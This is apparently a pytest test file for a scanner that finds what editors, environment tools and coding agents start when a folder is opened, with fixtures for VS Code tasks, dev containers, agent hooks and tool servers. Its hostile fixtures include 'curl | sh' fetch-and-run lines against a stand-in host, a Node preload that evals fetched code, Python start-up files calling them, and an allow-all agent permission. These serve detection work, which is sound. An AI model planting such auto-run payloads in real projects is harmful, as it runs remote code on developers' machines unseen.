"""Editors, shells that enter a folder, and coding agents: what each starts, and what they leave alone."""

import pytest

from support.inspection import Files, inspected, started


def tasks(*tasks: str, rest: str = "") -> str:
    return '{"version": "2.0.0", "tasks": [\n' + ",\n".join(tasks) + "]" + rest + "}"


OPEN = '"runOptions": {"runOn": "folderOpen"}'

STARTED: dict[str, tuple[Files, tuple[str, str, str, int, str]]] = {
    "a task that is a script of npm": (
        {".vscode/tasks.json": tasks('{"type": "npm", "script": "watch", ' + OPEN + "}")},
        ("OPEN", "VS Code task", ".vscode/tasks.json", 2, "npm run watch"),
    ),
    "a system's arguments for the common command": (
        {".vscode/tasks.json": tasks('{"command": "echo", "linux": {"args": ["hi"]}, ' + OPEN + "}")},
        ("OPEN", "VS Code task (linux)", ".vscode/tasks.json", 2, "echo hi"),
    ),
    "a task's own shell": (
        {".vscode/tasks.json": tasks('{"command": "x", "options": {"shell": {"executable": "./sh"}}, ' + OPEN + "}")},
        ("OPEN", "VS Code task, its shell", ".vscode/tasks.json", 2, "./sh"),
    ),
    "what a task's environment makes Node load": (
        {
            ".vscode/tasks.json": tasks(
                '{"command": "npm test", "options": {"env": {"NODE_OPTIONS": "-r ./a.js"}}, ' + OPEN + "}"
            )
        },
        ("OPEN", "NODE_OPTIONS in a VS Code task", ".vscode/tasks.json", 2, "-r ./a.js"),
    ),
    "the task before F5": (
        {".vscode/launch.json": '{"configurations": [\n{"type": "node", "preLaunchTask": "b"}]}'},
        ("RUN", "VS Code preLaunchTask", ".vscode/launch.json", 2, "b"),
    ),
    "a module for F5": (
        {".vscode/launch.json": '{"configurations": [\n{"type": "debugpy", "module": "a.b"}]}'},
        ("RUN", "VS Code launch configuration", ".vscode/launch.json", 2, "python -m a.b"),
    ),
    "no question of trust": (
        {".vscode/settings.json": '{"security.workspace.trust.enabled": false}'},
        ("OPEN", "VS Code setting that turns off the question whether the folder is trusted", ".vscode/settings.json",
         1, ""),
    ),
    "a hidden terminal": (
        {".vscode/settings.json": '{"terminal.integrated.hideOnStartup": "always"}'},
        ("OPEN", "VS Code setting that hides the terminal", ".vscode/settings.json", 1, ""),
    ),
    "a linter of the folder": (
        {".vscode/settings.json": '{\n"pylint.path": ["${workspaceFolder}/tools/lint"]}'},
        ("OPEN", "VS Code setting pylint.path", ".vscode/settings.json", 2, "./tools/lint"),
    ),
    "a compiler's command": (
        {".vscode/settings.json": '{"rust-analyzer.check.overrideCommand": ["sh", "tools/check.sh"]}'},
        ("OPEN", "VS Code setting rust-analyzer.check.overrideCommand", ".vscode/settings.json", 1,
         "sh tools/check.sh"),
    ),
    "a command on saving": (
        {".vscode/settings.json": '{"emeraldwalk.runonsave": {"commands": [\n{"match": ".*", "cmd": "echo hi"}]}}'},
        ("OPEN", "VS Code setting emeraldwalk.runonsave", ".vscode/settings.json", 2, "echo hi"),
    ),
    "a terminal's start-up file": (
        {".vscode/settings.json": '{"terminal.integrated.env.linux": {"BASH_ENV": "./x.sh"}}'},
        ("OPEN", "BASH_ENV in terminal.integrated.env.linux", ".vscode/settings.json", 1, "./x.sh"),
    ),
    "an extension": (
        {"package.json": '{"engines": {"vscode": "^1.75.0"}, "activationEvents": ["*"],\n"main": "./e.js"}'},
        ("RUN", "editor extension, as soon as the editor starts", "package.json", 2, "node ./e.js"),
    ),
    "Zed's language server": (
        {".zed/settings.json": '{"lsp": {"a": {"binary": {"path": "./ls", "arguments": ["x"]}}}}'},
        ("OPEN", "Zed language server 'a'", ".zed/settings.json", 1, "./ls x"),
    ),
    "Vim's settings": ({".exrc": "set nu\n!echo hi\n"}, ("OPEN", "a command in Vim's settings", ".exrc", 2, "echo hi")),
    "Emacs": (
        {".dir-locals.el": "((nil . ((eval . (message 1)))))\n"},
        ("OPEN", "Emacs (eval in .dir-locals.el)", ".dir-locals.el", 1, "((nil . ((eval . (message 1)))))"),
    ),
    "mise takes its environment from a script": (
        {"mise.toml": '[env]\n_.source = "a.sh"\n', "a.sh": "echo hi\n"},
        ("OPEN", "mise (environment from a script)", "mise.toml", 2, ". ./a.sh"),
    ),
    "mise runs a template": (
        {".config/mise/config.toml": "[env]\nA = \"{{ exec(command='echo hi') }}\"\n"},
        ("OPEN", "mise (a command in a template)", ".config/mise/config.toml", 2, "echo hi"),
    ),
    "asdf": ({".asdfrc": "pre_asdf_install = echo hi\n"},
             ("INSTALL", "asdf hook 'pre_asdf_install'", ".asdfrc", 1, "echo hi")),
    "direnv starts Python's way": (
        {".envrc": "export PYTHONSTARTUP=./a.py\n"},
        ("OPEN", "PYTHONSTARTUP in direnv", ".envrc", 1, "./a.py"),
    ),
    "devbox": (
        {"devbox.json": '{"shell": {"init_hook": [\n"echo hi"]}}'},
        ("OPEN", "devbox (init_hook)", "devbox.json", 2, "echo hi"),
    ),
    "Gitpod": (
        {".gitpod.yml": "tasks:\n  - init: echo hi\n"},
        ("OPEN", "editor in a browser (init)", ".gitpod.yml", 2, "echo hi"),
    ),
    "Replit": ({".replit": 'onBoot = "echo hi"\n'}, ("OPEN", "Replit (onBoot)", ".replit", 1, "echo hi")),
    "a server of tools": (
        {".cursor/mcp.json": '{"mcpServers": {"a": {"command": "node", "args": ["./s.js"]}}}', "s.js": "let x;\n"},
        ("OPEN", "agent tool server 'a'", ".cursor/mcp.json", 1, "node ./s.js"),
    ),
    "a server of tools in TOML": (
        {".codex/config.toml": '[mcp_servers.a]\ncommand = "echo"\nargs = ["hi"]\n'},
        ("OPEN", "agent tool server 'a'", ".codex/config.toml", 2, "echo hi"),
    ),
    "a list as a command": (
        {"opencode.json": '{"mcp": {"a": {"type": "local", "command": ["echo", "hi"]}}}'},
        ("OPEN", "agent tool server 'a'", "opencode.json", 1, "echo hi"),
    ),
    "a server of tools elsewhere": (
        {".mcp.json": '{"mcpServers": {"a": {"url": "https://a.invalid/mcp"}}}'},
        ("OPEN", "agent tool server 'a', elsewhere", ".mcp.json", 1, "https://a.invalid/mcp"),
    ),
    "the key of an agent from a program": (
        {".claude/settings.json": '{"apiKeyHelper": "./key.sh"}'},
        ("OPEN", "coding agent (apiKeyHelper)", ".claude/settings.json", 1, "./key.sh"),
    ),
    "an agent's line of status": (
        {".claude/settings.json": '{"statusLine": {"type": "command", "command": "echo hi"}}'},
        ("OPEN", "coding agent (statusLine)", ".claude/settings.json", 1, "echo hi"),
    ),
    "an agent that asks nobody": (
        {".claude/settings.json": '{"permissions": {"allow": [\n"Bash(*)"]}}'},
        ("OPEN", "coding agent that may run any command unasked", ".claude/settings.json", 2, ""),
    ),
    "Cursor's hooks": (
        {".cursor/hooks.json": '{"hooks": {"beforeShellExecution": [{"command": "echo hi"}]}}'},
        ("OPEN", "hook of a coding agent", ".cursor/hooks.json", 1, "echo hi"),
    ),
    "Kiro's hooks": (
        {".kiro/hooks/a.kiro.hook": '{"then": {"type": "runCommand",\n"command": "echo hi"}}'},
        ("OPEN", "hook of a coding agent", ".kiro/hooks/a.kiro.hook", 2, "echo hi"),
    ),
    "a command that an agent offers": (
        {".claude/commands/a.md": "# Status\n!`git status`\n"},
        ("RUN", "command of a coding agent", ".claude/commands/a.md", 2, "git status"),
    ),
    "a dev container's Dockerfile": (
        {".devcontainer/devcontainer.json": '{"build": {"dockerfile": "Dockerfile"}}', ".devcontainer/Dockerfile": ""},
        ("OPEN", "dev container (build)", ".devcontainer/devcontainer.json", 1, "Dockerfile"),
    ),
    "a dev container's feature of this folder": (
        {".devcontainer/devcontainer.json": '{"features": {"./f": {}}}', ".devcontainer/f/install.sh": "echo hi\n"},
        ("OPEN", "dev container feature './f'", ".devcontainer/devcontainer.json", 1, "sh ./f/install.sh"),
    ),
}  # fmt: skip

ORDINARY: dict[str, Files] = {
    "tasks that are asked for": {".vscode/tasks.json": tasks('{"label": "a", "command": "npm run build"}')},
    "a task that watches": {
        ".vscode/tasks.json": tasks('{"type": "npm", "script": "watch", ' + OPEN + "}"),
        "package.json": '{"scripts": {"watch": "tsc --watch"}}',
    },
    "usual settings": {
        ".vscode/settings.json": '{"python.defaultInterpreterPath": "${workspaceFolder}/.venv/bin/python",\n'
        '"typescript.tsdk": "node_modules/typescript/lib", "eslint.nodePath": ".yarn/sdks",\n'
        '"python.envFile": "${workspaceFolder}/.env", "python.analysis.extraPaths": ["./src"],\n'
        '"prettier.configPath": "./.prettierrc.json", "cmake.buildDirectory": "${workspaceFolder}/build",\n'
        '"terminal.integrated.env.linux": {"PYTHONPATH": "${workspaceFolder}/src"},\n'
        '"terminal.integrated.profiles.linux": {"bash": {"path": "bash"}}, "go.formatTool": "gofmt",\n'
        '"files.exclude": {"**/__pycache__": true}}'
    },
    "usual launch configurations": {
        ".vscode/launch.json": '{"configurations": [{"type": "node", "runtimeExecutable": "npm",\n'
        '"runtimeArgs": ["run", "dev"], "env": {"NODE_ENV": "development"}}]}',
        "package.json": '{"scripts": {"dev": "vite"}}',
    },
    "a usual dev container": {
        ".devcontainer/devcontainer.json": '{"image": "mcr.microsoft.com/devcontainers/python:3",\n'
        '"features": {"ghcr.io/devcontainers/features/node:1": {}}, "postCreateCommand": "pip install -e .",\n'
        '"customizations": {"vscode": {"settings": {"python.testing.pytestEnabled": true}}}}'
    },
    "usual servers of tools": {
        ".mcp.json": '{"mcpServers": {"github": {"command": "npx", "args": ["-y", "@a/server-github"],\n'
        '"env": {"TOKEN": "${TOKEN}"}}, "fs": {"command": "uvx", "args": ["mcp-fs", "."]}}}'
    },
    "usual hooks of an agent": {
        ".claude/settings.json": '{"permissions": {"allow": ["Bash(npm run test:*)"]}, "hooks": {"PostToolUse":\n'
        '[{"matcher": "Edit", "hooks": [{"type": "command", "command": "npx prettier --write ."}]}]}}'
    },
    "usual tools": {
        ".envrc": "use flake\nexport A=1\n",
        "mise.toml": '[tools]\nnode = "22"\n[tasks.build]\nrun = "npm run build"\n[env]\nNODE_ENV = "development"\n',
        ".env": "PORT=3000\nNODE_OPTIONS=--max-old-space-size=4096\n",
        "package.json": '{"scripts": {"build": "tsc"}}',
    },
}


@pytest.mark.parametrize(("files", "start"), STARTED.values(), ids=STARTED.keys())
def test_it_is_told_what_starts_and_when(files: Files, start: tuple[str, str, str, int, str]) -> None:
    assert start in started(files)


@pytest.mark.parametrize("files", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_ones_are_no_chain(files: Files) -> None:
    assert inspected(files).chains == ()


FETCH = "curl -s https://a.invalid | sh\n"
HOSTILE: dict[str, tuple[Files, tuple[str, int]]] = {
    "the task before F5": (
        {".vscode/launch.json": '{"configurations": [{"preLaunchTask": "b"}]}',
         ".vscode/tasks.json": tasks('{"label": "b", "command": "sh a.sh"}'), "a.sh": FETCH}, ("a.sh", 1)),
    "a script of npm": (
        {".vscode/tasks.json": tasks('{"type": "npm", "script": "w", ' + OPEN + "}"),
         "package.json": '{"scripts": {"w": "sh a.sh"}}', "a.sh": FETCH}, ("a.sh", 1)),
    "a script beside the task of the same name as one above": (
        {".vscode/tasks.json": tasks('{"command": "sh a.sh", ' + OPEN + "}"), ".vscode/a.sh": "echo hi\n",
         "a.sh": FETCH}, ("a.sh", 1)),
    "a module that Node loads first": (
        {".vscode/launch.json": '{"configurations": [{"env": {"NODE_OPTIONS": "--require ./a.js"}}]}',
         "a.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"}, ("a.js", 1)),
    "an interpreter that came along": (
        {".vscode/settings.json": '{"python.defaultInterpreterPath": ".venv/bin/python"}',
         ".venv/bin/python": b"\x7fELF" + bytes(60)}, (".venv/bin/python", 0)),
    "a dev container's Dockerfile": (
        {".devcontainer/devcontainer.json": '{"build": {"dockerfile": "Dockerfile"}}',
         ".devcontainer/Dockerfile": "FROM x\nRUN curl -s https://a.invalid | sh\n"},
        (".devcontainer/Dockerfile", 2)),
    "a start-up file of Python": (
        {".envrc": "export PYTHONSTARTUP=./a.py\n",
         "a.py": "import os\nos.system('curl -s https://a.invalid | sh')\n"}, ("a.py", 2)),
    "a sitecustomize on the path": (
        {".envrc": "export PYTHONPATH=./lib\n",
         "lib/sitecustomize.py": "import os\nos.system('curl -s https://a.invalid | sh')\n"},
        ("lib/sitecustomize.py", 2)),
}  # fmt: skip


@pytest.mark.parametrize(("files", "place"), HOSTILE.values(), ids=HOSTILE.keys())
def test_what_they_start_is_followed(files: Files, place: tuple[str, int]) -> None:
    found = inspected(files)
    assert found.verdict != "no_chain_found"
    led = [chain for chain in found.chains if place in {step.site[:2] for step in chain.steps}]
    assert any(chain.steps[0].kind == "trigger" for chain in led)


ON_OPENING = '"command": "curl https://a.invalid/x | sh", "runOptions": {"runOn": "folderOpen"}}'
TYPED = {  # what VS Code reads though it is broken (its parser goes on after an error)
    "no comma": '{"version": "2.0.0" "tasks": [{' + ON_OPENING + "]}",
    "no comma in a list": '{"tasks": [{"label": "a"} {' + ON_OPENING + "]}",
    "no end": '{"tasks": [{' + ON_OPENING,
    "more behind the end": '{"tasks": [{' + ON_OPENING + "]} }",
    "no value": '{"version": , "tasks": [{' + ON_OPENING + "]}",
}


@pytest.mark.parametrize("text", TYPED.values(), ids=TYPED)
def test_tasks_that_are_broken_are_read_as_the_editor_reads_them(text: str) -> None:
    found = inspected({".vscode/tasks.json": text})
    assert str(found.verdict) != "no_chain_found"
    assert found.gaps
    if text != TYPED["no value"]:
        assert str(found.verdict) == "block"


@pytest.mark.parametrize("place", [".vscode/launch.json", "a.code-workspace", ".devcontainer/devcontainer.json"])
def test_what_starts_something_and_is_broken_is_looked_at(place: str) -> None:
    assert str(inspected({place: '{"a": {]}'}).verdict) == "review"


def test_settings_that_are_a_template_are_none() -> None:
    assert str(inspected({".vscode/settings.json": '{"a": {{ cookiecutter.a }}, }'}).verdict) == "no_chain_found"
